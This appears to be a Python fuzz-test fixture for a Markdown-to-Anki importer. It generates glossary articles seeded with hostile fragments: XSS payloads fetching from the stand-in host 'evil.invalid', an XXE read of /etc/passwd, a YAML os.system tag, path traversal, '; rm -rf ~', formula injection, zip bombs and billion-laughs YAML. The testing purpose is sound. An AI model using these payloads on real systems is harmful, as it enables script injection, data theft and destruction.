"""Hostile articles, as code: what somebody who means harm, or a broken program, might put into a glossary.

All text is our own. ``FRAGMENTS`` are what Anki, a browser, a terminal or the file system would obey; ``articles``
puts each of them into every place of an article; ``bombs`` are files that would take long or much to read.
"""

from __future__ import annotations

import base64
import json
import zipfile
from collections.abc import Iterator
from io import BytesIO

HOST = "evil.invalid"
"""Where hostile fragments would fetch from, or report to."""

FRAGMENTS: dict[str, str] = {
    # what a browser runs or fetches
    "script": f"<script>document.title='PWNED';fetch('http://{HOST}/script')</script>",
    "script-src": f"<script src=http://{HOST}/a.js></script>",
    "script-split": "<scr<script>ipt>document.title='PWNED'</scr</script>ipt>",
    "script-closed": "</div></style></script><script>document.title='PWNED'</script>",
    "img-error": f"<img src=http://{HOST}/x.png onerror=\"document.title='PWNED'\">",
    "img-slash": "<img/src=x/onerror=document.title='PWNED'>",
    "img-upper": "<IMG SRC=x ONERROR=document.title='PWNED'>",
    "body": "<body onload=document.title='PWNED'>",
    "handler": '" onmouseover="document.title=\'PWNED\'" x="',
    "svg": "<svg onload=document.title='PWNED'><animate onbegin=document.title='PWNED' attributeName=x dur=1s>",
    "svg-script": "<svg><script>document.title='PWNED'</script></svg>",
    "svg-data": "<img src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=document.title=1>'>",
    "svg-use": f"<svg><use href='http://{HOST}/x.svg#a'/></svg>",
    "math": "<math><mtext></form><form><mglyph><style></math><img src onerror=document.title='PWNED'>",
    "iframe": f"<iframe src=http://{HOST}/frame></iframe>",
    "srcdoc": "<iframe srcdoc=\"<script>parent.document.title='PWNED'</script>\"></iframe>",
    "object": f"<object data=http://{HOST}/o></object><embed src=http://{HOST}/e>",
    "style": f"<style>@import url(http://{HOST}/s.css); body {{ background: url(http://{HOST}/b.png) }}</style>",
    "style-attr": f'<p style="background:url(http://{HOST}/bg.png)">x</p>',
    "link-rel": f'<link rel=stylesheet href="http://{HOST}/l.css"><link rel=prefetch href=http://{HOST}/p>',
    "meta": f'<meta http-equiv=refresh content="0;url=http://{HOST}/refresh"><base href=http://{HOST}/>',
    "form": f"<form action=http://{HOST}/form><input autofocus onfocus=document.title='PWNED'></form>",
    "details": "<details open ontoggle=document.title='PWNED'>",
    "video": f"<video autoplay src=http://{HOST}/v.mp4 onerror=document.title='PWNED'><source src=//{HOST}/s>",
    "comment": "<!-- x --!><script>document.title='PWNED'</script><!--",
    "cdata": "<![CDATA[<script>document.title='PWNED'</script>]]>",
    "instruction": "<?xml version='1.0'?><!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "javascript": "[click](javascript:document.title='PWNED')",
    "javascript-entity": "[click](java&#x0A;script&colon;document.title='PWNED')",
    "javascript-auto": "<javascript:document.title='PWNED'>",
    "data-link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md-image": f"![pixel](http://{HOST}/pixel.png)",
    "md-image-absolute": "![x](/etc/passwd) ![y](file:///dev/zero) ![z](\\\\evil.invalid\\x)",
    "md-image-html": f"[![x](http://{HOST}/a.png)](javascript:document.title='PWNED') ![[{HOST}.png]]",
    "md-image-file": "![passwords](file:///etc/passwd) ![up](../../../../etc/passwd)",
    "md-reference": f"![a][r]\n\n[r]: http://{HOST}/ref.png",
    "entities": "&lt;script&gt;document.title='PWNED'&lt;/script&gt;",
    "entities-twice": "&amp;lt;img src=x onerror=document.title='PWNED'&amp;gt;",
    "entities-thrice": "&amp;amp;lt;script&amp;amp;gt;document.title='PWNED'&amp;amp;lt;/script&amp;amp;gt;",
    "entities-odd": "&#60script&#62document.title='PWNED'&#x3C;/script&#x3E; &#0; &#x110000; &#xD800; &#1; &NewLine;",
    "fullwidth": "＜script＞document.title='PWNED'＜/script＞",
    "code": "`<script>document.title='PWNED'</script>` ``` <b> ```",
    # what Anki obeys
    "sound": "[sound:http://evil.invalid/x.mp3]",
    "sound-upper": "[SOUND:x.mp3][Sound:../../x.mp3]",
    "sound-hidden": "[sou\u200bnd:x.mp3] [\u2060sound:x.mp3] [s\u00adound:x.mp3]",
    "sound-entity": "&#91;sound:x.mp3&#93; &lbrack;sound:x.mp3&rbrack;",
    "sound-nested": "[[sound:[sound:x.mp3]x.mp3]]",
    "anki-tts": "[anki:tts lang=en_US]speak[/anki:tts]",
    "anki-play": "[anki:play:q:0] [ANKI:play:a:1]",
    "type": "[[type:Answer]] [[type:cloze:Text]]",
    "latex": r"[latex]\input{/etc/passwd}[/latex]",
    "latex-money": r"[$]x^2[/$] [$$]x^2[/$$]",
    "mathjax": r"\(\href{javascript:document.title='PWNED'}{x}\)",
    "mathjax-block": r"\[\unicode{x}\] \\(y\\) \\[z\\]",
    "mathjax-env": r"\begin{equation}x\end{equation} \ref{x} \eqref{y}",
    "prices": "$5 to $10",
    "prices-double": "$$5 to $$10",
    "cloze": "{{c1::secret::hint}} {{c99::{{c2::x}}}}",
    "field": "{{Question}} {{#Answer}}x{{/Answer}} {{FrontSide}} {{type:Answer}} {{tts da_DK:Answer}}",
    "mustaches": "{{{Answer}}} {{=<% %>=}}<%Answer%> }}{{",
    "jinja": "{% for x in range(9) %}<< question >> <% if 1 %> {{ ''.__class__ }} <# x #>",
    "format": "{0.__class__} {term} %s %(x)s %n ${HOME} $(id) `id`",
    # characters
    "nul": "a\x00b",
    "controls": "".join(map(chr, [*range(1, 9), 11, 12, *range(14, 32), 127, *range(128, 160)])),
    "separator": "a\x1fb\x1ec\x1dd\x1ce",
    "escape": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b[2J",
    "bidi": "\u202eevil\u202c \u2066x\u2067y\u2068z\u2069 \u200f\u200e",
    "invisible": "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u034f\u115f\u3164",
    "lines": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "spaces": "a\u3000b\u00a0c\u2003d\u1680e\u202ff",
    "overlay": "\u0338x […]\u0338y >\u0338 <\u0338 =\u0338",
    "zalgo": "Z" + "\u0301\u0316\u0334" * 40,
    "nfd": "Ka\u0308se A\u030a Å e\u0301",
    "noncharacters": "\ufffe\uffff\U0001ffff\U0010ffff\ue000",
    "tags-block": "\U000e0041\U000e0042\U000e0043",
    "variation": "\ufe0f\U000e0100 1\ufe0f\u20e3",
    "emoji": "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "case": "ẞ ß İ ı ŉ ǰ ﬃ Ǆ",
    "blank": "[…] [… which year?] […",
    # Markdown and YAML
    "yaml": "!!python/object/apply:os.system ['id']",
    "yaml-alias": "&a [*a, *a]",
    "yaml-block": "|\n  x: y\n  - z",
    "quote": '"',
    "quotes": "'\"“”„«»‹›「」",
    "colon": "a: b: c # d",
    "fence": "---",
    "dots": "...",
    "tabs": "\ta\tb",
    "brackets": "[[[]]](((",
    "pipes": "| a | b |\n| - | - |\n| c | d |",
    "stars": "***a** b* **__c__",
    "hashes": "# ## ###x ＃＃y",
    "dash": "- x – y — z",
    "greater": "> > >x",
    "hearts": "<3" * 300,
    "angle": "<3 <3 <3 >:) <- ->",
    "ampersand": "AT&T & B&W &amp; &copy &bogus; &#38;#60;b&#38;#62;",
    "footnote": "[^1]\n\n[^1]: note",
    "strike": "~~x~~ ==y== ^z^",
    "task": "[ ] todo [x] done",
    "placeholder": "TTT ТТТ TT",
    "template-error": "Field Question not found in template",
    "unbalanced": "( [ { « （ “",
    "residue": "a),. b , c ,, d .",
    "path": "../../../../etc/passwd",
    "path-absolute": "/etc/passwd",
    "path-windows": "C:\\CON\\..\\aux.md",
    "url": f"http://{HOST}/x?a=b&c=d#e",
    "shell": "; rm -rf ~ | cat && $(touch x)",
    "formula": '=HYPERLINK("http://evil.invalid") @SUM(1) +1 -1',
    "number": "1e999 0x7f 1_000 NaN null ~ true no 2020-01-01 12:30",
    "deck": "A::B::C",
    "marked": "marked leech",
    "percent": "%2e%2e%2f %00 %s",
    "long-word": "w" * 5000,
    "long-text": "many words " * 450,
    "many-commas": ",".join(f"k{i}" for i in range(4000)),
    "empty": "",
    "space": " ",
}

PLACES = (
    *("title", "description", "keywords", "aliases", "slug", "lang"),
    *("heading", "highlight", "tip", "reason", "quote", "question", "answer", "prose"),
)
"""Where in an article a fragment is put."""

_EN = """\
---
title: Notice {n}{title}
description: A notice {n} is a letter that tells a customer when a contract ends and what has to be paid.{description}
keywords: {keywords}
aliases: {aliases}
slug: {slug}
lang: {lang}
---

# Notice {n}{heading}

A notice {n} is sent by post.{prose} Nobody reads it twice.

## Tips{heading}

- Send the notice {n} on a Monday.{tip} A letter that comes on a Friday lies unread until the week after.{reason}

> Never send the notice {n} by itself.{quote} A call before it keeps the customer.

## Highlights

- A notice {n} costs 40 euros because a lawyer has to read it.{highlight}
- A notice {n} is the opposite of a renewal.

## FAQ

### Can a notice {n} be taken back?{question}

A notice can be taken back within 14 days, if the customer agrees to it in writing.{answer}
"""

_DA = """\
---
title: Varsel {n}{title}
description: Et varsel {n} er et brev, der fortæller kunden, hvornår en aftale udløber, og hvad det koster.{description}
keywords: {keywords}
aliases: {aliases}
slug: {slug}
lang: {lang}
---

# Varsel {n}{heading}

Et varsel {n} sendes med posten.{prose} Ingen læser det to gange.

## Tips{heading}

- Send varslet {n} om mandagen.{tip} Et brev, der kommer om fredagen, ligger ulæst til ugen efter.{reason}

> Send aldrig varslet {n} alene.{quote} Et opkald først beholder kunden.

## Højdepunkter

- Et varsel {n} koster 40 euro, fordi en advokat skal læse det.{highlight}

## Ofte stillede spørgsmål

### Kan et varsel {n} trækkes tilbage?{question}

Et varsel kan trækkes tilbage inden for 14 dage, hvis kunden går med til det skriftligt.{answer}
"""


def article(number: int, lang: str = "en", **places: str) -> str:
    """An article that gives cards of every kind, with something in one place or several of them."""
    slug = places.pop("slug", f"notice-{number}")
    values = dict.fromkeys(PLACES, "") | {key: f" {value}" for key, value in places.items()}
    for key in ("lang", "keywords", "aliases"):
        values[key] = places.get(key, {"lang": lang}.get(key, ""))
    return (_DA if lang == "da" else _EN).format(n=number, **values | {"slug": slug})


def encoded(text: str) -> bytes:
    """UTF-8, surrogates as the three bytes that no decoder should take."""
    return text.encode("utf-8", "surrogatepass")


def as_name(fragment: str) -> str:
    """A fragment as the name of a file or folder: what no file system takes is replaced, and it is cut."""
    name = fragment.replace("/", "／").replace("\0", "").encode("utf-8", "replace")[:120].decode("utf-8", "ignore")
    return "" if name.strip() in ("", ".", "..", "...") or name.startswith(".") else name


def toml(value: str) -> str:
    """A text as TOML."""
    text = json.dumps(value.encode("utf-8", "replace").decode(), ensure_ascii=False)
    return "".join(char if char >= " " and char != "\x7f" else f"\\u{ord(char):04x}" for char in text)


def articles() -> Iterator[tuple[str, bytes]]:
    """Files with every fragment in every place: its path below the source, and its bytes."""
    number = 0
    body = dict.fromkeys(PLACES[6:])
    for name, fragment in FRAGMENTS.items():
        for place in (*PLACES[:6], "body"):
            number += 1
            # Items are judged one by one, so the places of the body can share an article.
            text = article(number, **(dict.fromkeys(body, fragment) if place == "body" else {place: fragment}))
            yield f"en/{name}-in-{place}.md", encoded(text)
        number += 1
        everywhere = dict.fromkeys((p for p in PLACES if p not in ("slug", "lang")), fragment)
        yield f"en/{name}-everywhere.md", encoded(article(number, **everywhere))
        # The same number, so that a pair has both.
        yield f"da/{name}-everywhere.md", encoded(article(number, "da", **everywhere))


def _zip_bomb() -> bytes:
    data = BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("x.md", b"0" * 50_000_000)
    return data.getvalue()


def _laughs() -> str:
    lines = ["a: &a [x,x,x,x,x,x,x,x,x]"]
    lines += [f"{b}: &{b} [{','.join(['*' + a] * 9)}]" for a, b in zip("abcdefgh", "bcdefghi", strict=True)]
    return "---\ntitle: *i\n" + "\n".join(lines) + "\n---\n\nText.\n"


def _front(block: str, body: str = "Text.") -> str:
    return f"---\n{block}\n---\n\n{body}\n"


_BIG = 900_000


def _filled(unit: str, size: int = _BIG) -> str:
    return unit * (size // len(unit.encode()))


REPEATED = (
    *("[", "](", "**", "> ", "- ", "#", "<", "&#", '"', "(", " .", ",.", "*", "_", "`", "~", "!", "![", "[]("),
    *("<3", "<a ", "</", "<!--", "<!", "<?", "&amp;", "&", "[a](", "[a](b", "[a]: b\n", "[^1]", "\\", "|", "|-"),
    *("\n", "\n\n", " \n", "\t", " ", "\u00a0", "\u3000", "＃", "– ", "•", "-x\n", "*x\n", "1.x\n", "1. ", "> - "),
    *("),", "),.", ") ", " )", "( ", ",,", "the the ", "a. ", "a.b.", "a? ", "$", "$1 ", "\\(", "{{", "}}", "TTT "),
    *("a", "a ", "A. B. ", "aa-", "1,", "1.", "0", "12:", "e.g. ", "é", "e\u0301", "\u0301", "\u200b", "\u00ad"),
    *("“", "”", "«", "»", "「", "''", "’", "l' ", "…", "...", "--", "---\n", "===\n", "# a\n", "##x\n", "a\n# ", ">\n"),
    *(">> ", ">#", "> #x\n", "-", "- -", "* * ", "+ ", "*a**b", "**a ", "**a**", "_a_b", "***", "__a", "`a``", "a`"),
    *("<b>", '<h5><a href="">TTT</a></h5>\n', "<table>\n", "<br>", "|a|b|\n", "    x\n", "```\n", "~~~\n"),
    *("because ", "is a ", "notice ", "and ", ", ", "; ", ": ", "why? ", "因為", "。", "，", "א", "ا "),
)
"""Units that are repeated a hundred thousand times."""


def bombs() -> Iterator[tuple[str, bytes]]:
    """Files that a careless reader would choke on; each must be refused or read in well under a second."""
    for number, unit in enumerate(REPEATED):
        size = min(_BIG, 100_000 * len(unit.encode()))
        yield f"repeated-{number}.md", encoded(_front(f"title: Repeated {number}", _filled(unit, size)))
    nested = {
        "lists": "".join(f"{'  ' * i}- x\n" for i in range(600)),
        "list-one-line": "- " * 5000 + "x",
        "quotes": "".join(f"{'>' * i} x\n" for i in range(1200)),
        "quote-one-line": ">" * 100_000 + " x",
        "brackets": "[" * 50_000 + "x" + "]" * 50_000,
        "links": "[" * 20_000 + "x" + "](y)" * 20_000,
        "emphasis": "*" * 50_000 + "x" + "*" * 50_000,
        "emphasis-pairs": "*a **b " * 20_000 + "** * " * 20_000,
        "parentheses": "(" * 50_000 + "x" + ")" * 50_000,
        "braces": "{" * 50_000 + "}" * 50_000,
        "html": "<div>" * 50_000 + "x" + "</div>" * 50_000,
        "inline-html": "a " + "<b>" * 50_000 + "x" + "</b>" * 50_000,
        "images": "![" * 30_000 + "x" + "](y)" * 30_000,
        "references": "[a]: b\n" * 20_000 + "[a]" * 20_000,
        "reference-names": "".join(f"[{i}]: x\n" for i in range(30_000)) + "".join(f"[{i}]" for i in range(30_000)),
        "footnotes": "".join(f"[^{i}]: [^{i + 1}]\n\n" for i in range(15_000)) + "[^0]",
        "table": "|" + "a|" * 3000 + "\n|" + "-|" * 3000 + "\n" + ("|" + "b|" * 30 + "\n") * 5000,
        "code-fences": "".join(f"{'`' * (i % 300 + 3)}\n" for i in range(4000)),
        "backticks": " ".join("`" * i for i in range(1, 1200)),
        "setext": "a\n=\n" * 100_000,
        "lazy": "> a\n" + "b\n" * 200_000,
        "headings": "".join(f"## Heading {i}\n\nA sentence under heading number {i}.\n\n" for i in range(10_000)),
        "questions": "".join(f"## Is it {i}?\n\nIt is {i}, because somebody counted.\n\n" for i in range(10_000)),
        "deep-headings": "".join(f"{'#' * (i % 6 + 1)} H{i}?\n\nText {i}.\n\n" for i in range(10_000)),
        "bullets": "## Highlights\n\n" + "".join(f"- Fact {i} is a fact because {i} is odd.\n" for i in range(10_000)),
        "same-bullets": "## Highlights\n\n" + "- A fact is a fact because it is a fact.\n" * 20_000,
        "tips": "## Tips\n\n" + "".join(f"- Do thing {i} today. Tomorrow {i} is late.\n" for i in range(10_000)),
        "quotes-many": "".join(f"> Do thing {i} today. Tomorrow is late for {i}.\n\n" for i in range(10_000)),
        "huge-line": "word " * 180_000,
        "huge-word": "w" * _BIG,
        "huge-bullet": "## Highlights\n\n- " + "a thing is a thing because " * 30_000,
        "huge-bullet-commas": "## Highlights\n\n- " + "a, because b, which is 5%; " * 30_000,
        "huge-bullet-words": "## Highlights\n\n- " + " ".join(f"word{i}" for i in range(80_000)),
        "huge-answer": "## FAQ\n\n### Why is it so?\n\n" + "It is because it is. " * 40_000,
        "huge-answer-words": "## FAQ\n\n### Why is it so?\n\n" + " ".join(f"word{i}" for i in range(80_000)),
        "huge-question": "## FAQ\n\n### " + "Why is it " * 80_000 + "?\n\nIt is.",
        "huge-heading": "## " + "Highlights tips FAQ " * 40_000 + "\n\n- x",
        "huge-quote": "> " + "Say it. It is good. " * 40_000,
        "huge-bold-question": "**" + "Is it so " * 80_000 + "?**\n\nYes.",
        "many-links": "## Highlights\n\n- " + "[a](/notice) " * 60_000,
        "abbreviations": "## Highlights\n\n- " + "e.g. i.e. Mr. A. B. " * 40_000,
        "dashes": "## Highlights\n\n- " + "a – b — c - d" * 60_000,
        "figures": "## Highlights\n\n- " + "5% of $1,000.50 in 1999 " * 35_000,
        "quoted-words": "## Highlights\n\n- " + '"a" “b” «c» ' * 50_000,
        "no-spaces-cjk": "## Highlights\n\n- " + "因為這是一個事實，所以它是事實。" * 15_000,
    }
    for name, body in nested.items():
        yield f"nested-{name}.md", encoded(_front(f"title: Nested {name}\nlang: en", body))
    words = " ".join(f"word{i}" for i in range(8000))
    fronts = {
        "laughs": _laughs(),
        "yaml-depth": _front("title: " + "[" * 20_000),
        "yaml-depth-lines": _front("title: x\n" + "\n".join(" " * i + f"k{i}:" for i in range(400))),
        "yaml-depth-dashes": _front("title: " + "- " * 20_000),
        "yaml-keys": _front("title: x\n" + "\n".join(f"k{i}: v" for i in range(50_000))),
        "yaml-doubles": _front("title: x\n" * 20_000),
        "yaml-broken-keys": _front("title: x: y\n" + "\n".join(f"k{i}: v: w" for i in range(3000))),
        "yaml-merge": _front("title: x\n<<: [{a: b}, {c: d}]\n? [complex, key]\n: value"),
        "yaml-int": _front("title: " + "9" * 60_000),
        "yaml-date": _front(
            "title: 99999-99-99\nslug: 0o777\nlang: no\nkeywords: {a: b}\naliases: [[a], {b: c}, 1, null]"
        ),
        "yaml-tabs": _front("title:\tx\n\tdescription: y"),
        "yaml-quote": _front('title: "' + "\\x41" * 15_000 + '"'),
        "yaml-folded": _front("title: >\n" + "  x\n" * 15_000),
        "yaml-documents": "---\ntitle: x\n---\n---\ntitle: y\n---\n...\n---\n",
        "title-5000": _front("title: " + "t" * 5000),
        "title-5000-words": _front("title: " + "word " * 1000, "A word word is a word that is said again and again."),
        "title-60000": _front("title: " + "t" * 60_000),
        "title-markup": _front("title: " + "**a** [b](c) <b>d</b> " * 2500),
        "title-entities": _front("title: " + "&amp;" * 12_000),
        "description-60000": _front("title: Description\ndescription: A description is " + words[:58_000]),
        "description-same": _front("title: Description\ndescription: " + "A description is a description. " * 1900),
        "description-big": _front("title: Description\ndescription: " + "A description is a description. " * 25_000),
        "aliases-many": _front(
            "title: Alias\ndescription: An alias is "
            + words[:20_000]
            + "\naliases: "
            + ",".join(f"alias{i}" for i in range(4000)),
            words * 5,
        ),
        "keywords-many": _front("title: Keyword\nkeywords: " + ",".join(f"k{i}" for i in range(9000))),
        "keywords-deep": _front("title: Keyword\nkeywords: " + "a::" * 15_000 + "b"),
        "slug-60000": _front("title: Slug\nslug: " + "s" * 60_000),
        "lang-60000": _front("title: Lang\nlang: " + "en-" * 20_000),
        "unclosed": "---\ntitle: Unclosed\n" + "x\n" * 200_000,
        "unclosed-keys": "---\ntitle: Unclosed\n" + "key: value\n" * 60_000,
        "unclosed-indented": "---\ntitle: Unclosed\n" + "  x\n" * 150_000,
        "fences-only": "---\n" * 200_000,
        "dashes-only": "-" * 900_000,
        "blank-before": "\n" * 900_000 + "---\ntitle: Late\n---\nText.\n",
        "spaces-before": " " * 900_000 + "---\ntitle: Late\n---\nText.\n",
        "spaces-in-fence": "---" + " " * 900_000 + "\ntitle: Late\n---\nText.\n",
        "fence-spaces-many": "---\ntitle: x\n" + ("---" + " " * 300 + "x\n") * 2500,
        "carriage-returns": "---\rtitle: Returns\r---\r" + "\r" * 900_000,
        "empty-title": _front("title: ''\ndescription: x"),
        "title-controls": _front("title: \x00\x01\x02\u202e"),
        "title-invisible": _front("title: \u200b\u2060\ufeff\u00ad"),
        "title-punctuation": _front("title: '?!…'\ndescription: It is a thing that nobody can name at all."),
    }
    for name, text in fronts.items():
        yield f"front-{name}.md", encoded(text)
    sound = article(900_001)
    raw = {
        "over-1-mib": encoded(article(900_002)) + b"x" * (1 << 20),
        "exactly-1-mib": encoded(article(900_003)).ljust(1 << 20, b"\n"),
        "over-16-mib": encoded(article(900_004)) + b"x y. " * (16 << 18),
        "million-hearts": encoded(article(900_005)) + b"<3 " * 1_000_000,
        "hearts": encoded(article(900_006)) + b"<3 " * 300_000,
        "binary": bytes(range(256)) * 4096,
        "binary-front": encoded(article(900_007)) + bytes(range(256)) * 400,
        "nul": sound.encode().replace(b"notice", b"no\0tice"),
        "zip": _zip_bomb(),
        "zip-front": b"---\ntitle: Zip\n---\n" + _zip_bomb(),
        "utf-16": sound.encode("utf-16"),
        "utf-16-no-mark": sound.encode("utf-16-le"),
        "utf-16-cut": sound.encode("utf-16")[:-1],
        "utf-16-surrogate": "---\ntitle: Half\n---\n".encode("utf-16") + b"\x00\xd8\n\x00",
        "utf-32": sound.encode("utf-32"),
        "utf-7": sound.replace("A", "+AEE-").encode(),
        "latin-1": article(900_008, "da", title="å").encode("latin-1"),
        "cp1252": article(900_009, title="“smart”").encode("cp1252"),
        "surrogates": encoded(article(900_010, title="\ud800", answer="\udfff\ud800")),
        "surrogate-entity": encoded(article(900_011, title="&#xD800;", answer="&#55357;")),
        "overlong": article(900_012).encode().replace(b"/", b"\xc0\xaf") + b"\xc0\x80",
        "beyond": encoded(article(900_013)) + b"\xf5\x80\x80\x80\xf8\x88\x80\x80\x80",
        "cut": "---\ntitle: Cut å".encode()[:-1],
        "bom-twice": b"\xef\xbb\xbf\xef\xbb\xbf" + encoded(article(900_014)),
        "bom-inside": encoded(article(900_015)).replace(b"\n", b"\xef\xbb\xbf\n"),
        "base64": b"---\ntitle: Base\n---\n" + base64.b64encode(bytes(600_000)),
        "empty": b"",
        "newline": b"\n",
        "fence": b"---",
        "fence-title": b"---\ntitle",
        "one-byte": b"\xff",
        "only-bom": b"\xef\xbb\xbf",
        "only-bom-16": b"\xff\xfe",
    }
    for name, data in raw.items():
        yield f"raw-{name}.md", data


FILE_NAMES = (
    *("new\nline.md", "carriage\rreturn.md", "tab\t.md", "escape\x1b[31m.md", "bell\x07.md", "unit\x1fseparator.md"),
    *("del\x7f.md", "bidi\u202efm.md", "zero\u200bwidth.md", "line\u2028break.md", "ideographic\u3000space.md"),
    *("percent%00%2e%2e.md", "..md", "...md", "..", " .md", "  leading and trailing .md", "-rf.md", "--help.md"),
    *("a::b.md", "a:b.md", "quote\"'.md", "star*?.md", "back\\slash.md", "pipe|<>.md", "CON.md", "nul.txt", "aux.md"),
    *("emoji👩‍👩‍👧.md", "NFC-é.md", "NFD-e\u0301.md", "Case.md", "case.md", "CASE.MD", "ß.md", "ss.md", "İ.md", "i.md"),
    *("x.da.md", "x_da.md", "x.en.da.pl.md", "x..md", "x.md.md", "marked.md", "leech.md", "#.md", "model.md", "'.md"),
    *(
        "n" * 251 + ".md",
        "漢" * 84 + ".md",
        "<script>document.title='PWNED'<／script>.md",
        "[sound:x.mp3].md",
        "{{c1::x}}.md",
    ),
    *(
        "1.md",
        "=1+1.md",
        "~.md",
        "$HOME.md",
        "`id`.md",
        ";id.md",
        "\u0338.md",
        "\ufeff.md",
        "\u202e.md",
        "_.md",
        "*.md",
    ),
)
"""Names that a Linux file system takes."""

FILE_NAMES_BYTES = (b"latin-\xe5.md", b"\xff\xfe.md", b"cut-\xe6\xbc.md", b"surrogate-\xed\xa0\x80.md")
"""Names that are no UTF-8."""

DECK_NAMES = {
    "nested": "a::b",
    "colons": "::",
    "many-colons": "a:::::b::",
    "up": "../x",
    "absolute": "/etc/passwd",
    "windows": "C:\\x\\..\\y",
    "device": "CON",
    "controls": "a\x00b\x01c\x1fd\x7fe\nf\rg\th",
    "only-controls": "\x01\x02",
    "long": "x" * 300,
    "long-wide": "漢" * 300,
    "long-nested": "::".join(["deep"] * 100),
    "emoji": "👩‍👩‍👧‍👦",
    "bidi": "\u202eevil\u202c",
    "invisible": "\u200b\u2060",
    "markup": "<script>document.title='PWNED'</script>",
    "mustache": "{{Question}}",
    "sound": "[sound:x.mp3]",
    "quotes": "a\"b'c",
    "dots": "...",
    "dot": ".",
    "space": "  a   b  ",
    "nfd": "e\u0301",
    "percent": "%s %d {0} {name}",
    "tab": "a\tb",
    "lines": "a\u2028b\x85c",
    "star": "*_?",
    "dash": "--out",
}
"""Names of decks that an author, or a folder, may have."""
